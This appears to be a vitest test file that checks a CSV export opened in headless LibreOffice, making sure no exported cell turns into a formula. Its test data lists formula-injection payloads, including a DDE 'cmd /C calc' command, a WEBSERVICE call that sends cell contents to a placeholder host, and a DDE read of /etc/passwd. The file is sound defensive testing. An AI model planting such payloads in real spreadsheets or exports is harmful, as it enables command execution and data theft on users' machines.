/**
 * The exported CSV in LibreOffice itself: what it opens, saved as a flat spreadsheet and read cell by cell. Needs
 * `soffice` (Debian: libreoffice-calc-nogui).
 */
import { execFile, execFileSync } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { promisify } from "node:util";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Database } from "#src/store/open.ts";
import { memoryDatabase } from "#test/fixtures/database.ts";
import { manager, openManaged } from "./house.ts";
import { world } from "./world.ts";

const run = promisify(execFile);

function hasOffice(): boolean {
  try {
    execFileSync("soffice", ["--version"], { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
}
const office = hasOffice();

const evil = [
  "=1+1",
  "+49 123",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "Eins\n=1+1",
  '=HYPERLINK("http://x.example";"hier")',
  "=cmd|' /C calc'!A0",
  `=WEBSERVICE("http://x.example/"&A1)`,
  '=DDE("soffice";"/etc/passwd";"a")',
  "＝1+1",
];
const kind = [
  "Größe, Wärme, Straße: 899 €",
  'Ein „Sofa“ mit "Zeichen"; und Semikolon, und Komma',
  "Zeile eins\nZeile zwei\n\nZeile vier",
  'Endet mit Anführungszeichen"',
  "'Schon ein Apostroph",
  "Emoji 🛋️ und ﬁ",
];

interface Cell {
  text: string;
  formula: string | undefined;
  type: string | undefined;
}

const plain = (xml: string) =>
  xml
    .replace(/<text:s(?: text:c="(\d+)")?\/>/g, (_, n) => " ".repeat(Number(n ?? 1)))
    .replace(/<text:tab\/>/g, "\t")
    .replace(/<[^>]*>/g, "")
    .replace(
      /&(lt|gt|quot|apos|amp);/g,
      (_, name: string) => ({ lt: "<", gt: ">", quot: '"', apos: "'" })[name] ?? "&",
    )
    .replace(/&#(x?)([0-9a-f]+);/gi, (_, hex: string, n: string) =>
      String.fromCodePoint(Number.parseInt(n, hex ? 16 : 10)),
    );

/** Rows of a flat OpenDocument spreadsheet's first sheet, repeated and covered cells unfolded up to `width`. */
function sheet(xml: string, width: number): Cell[][] {
  const table = /<table:table [\s\S]*?<\/table:table>/.exec(xml)?.[0] ?? "";
  return [...table.matchAll(/<table:table-row[^>]*>([\s\S]*?)<\/table:table-row>/g)].map(([, row = ""]) => {
    const cells: Cell[] = [];
    for (const [, attributes = "", inner = ""] of row.matchAll(
      /<table:table-cell((?:\s[^>]*?)?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g,
    )) {
      const of = (name: string) => new RegExp(`${name}="([^"]*)"`).exec(attributes)?.[1];
      const lines = [...inner.matchAll(/<text:p(?:\s[^>]*?)?(?:\/>|>([\s\S]*?)<\/text:p>)/g)];
      const cell = {
        text: lines.map(([, line = ""]) => plain(line)).join("\n"),
        formula: of("table:formula"),
        type: of("office:value-type"),
      };
      for (let i = Number(of("table:number-columns-repeated") ?? 1); i > 0 && cells.length < width; i--)
        cells.push(cell);
    }
    return cells;
  });
}

describe.skipIf(!office)(`CSV in LibreOffice${office ? "" : " (left out: no soffice)"}`, () => {
  let database: Database;
  let house: Awaited<ReturnType<typeof openManaged>>;
  let dir: string;
  beforeAll(async () => {
    database = await memoryDatabase();
    house = await openManaged(database);
    dir = await mkdtemp(path.join(tmpdir(), "hygge-office-"));
    const w = world(database);
    await w.person("web:eve", "=cmd|' /C calc'!A0");
    for (const text of [...evil, ...kind]) {
      const { drafts } = await w.brief(text, [text], { person: "web:eve" });
      await w.rate(drafts[0] ?? "", "down", { comment: text });
      await w.decide(drafts[0] ?? "", "reject", "web:chef", text);
    }
  });
  afterAll(async () => {
    await house?.close();
    await database?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  /** `separator`: its code; `language`: whose decimal mark. UTF-8, quotes, from line 1; numbers and dates are recognised. */
  async function opened(text: string, name: string, separator: number, language: number, width: number) {
    const file = path.join(dir, `${name}.csv`);
    await writeFile(file, text);
    await run("soffice", [
      `-env:UserInstallation=${pathToFileURL(path.join(dir, "profile")).href}`,
      "--headless",
      `--infilter=CSV:${separator},34,76,1,,${language},false,true`,
      ...["--convert-to", "fods", "--outdir", dir, file],
    ]);
    return sheet(await readFile(path.join(dir, `${name}.fods`), "utf8"), width);
  }

  test.each([
    ["de", ";", 1031],
    ["en", ",", 1033],
  ] as const)(
    "%s: every cell holds its text in its column, none is a formula",
    async (locale, delimiter, language) => {
      let text = "";
      for await (const piece of await house.manage.csv(manager("boss"), { locale, sort: "oldest" }))
        text += piece;
      const expected: string[][] = parse(text, { bom: true, delimiter });
      const head = expected[0] ?? [];
      const rows = await opened(text, locale, delimiter.charCodeAt(0), language, head.length);

      expect(rows).toHaveLength(evil.length + kind.length + 1);
      expect(rows[0]?.map((cell) => cell.text)).toEqual(head);
      const at = (name: string) => head.indexOf(name);
      for (const [i, row] of rows.entries()) {
        expect(row).toHaveLength(head.length);
        for (const cell of row) expect(cell.formula).toBeUndefined();
        if (i === 0) continue;
        const want = (name: string) => expected[i]?.[at(name)];
        for (const name of ["person", "decided_by", "brief", "text", "note", "comments", "state", "draft_id"])
          expect([name, row[at(name)]?.text, row[at(name)]?.type]).toEqual([name, want(name), "string"]);
        expect(row[at("score")]).toMatchObject({ text: "80", type: "float" });
        expect(row[at("created")]?.type).toBe("date");
      }
      const texts = rows.slice(1).map((row) => row[at("text")]?.text);
      for (const one of kind) expect(texts).toContain(one);
    },
  );

  test("LibreOffice would run these cells if they came as they are", async () => {
    const rows = await opened("a;b\r\n=1+1;=SUM(1)\r\n", "raw", 59, 1031, 2);
    expect(rows[1]?.map((cell) => cell.formula !== undefined)).toEqual([true, true]);
  });
});
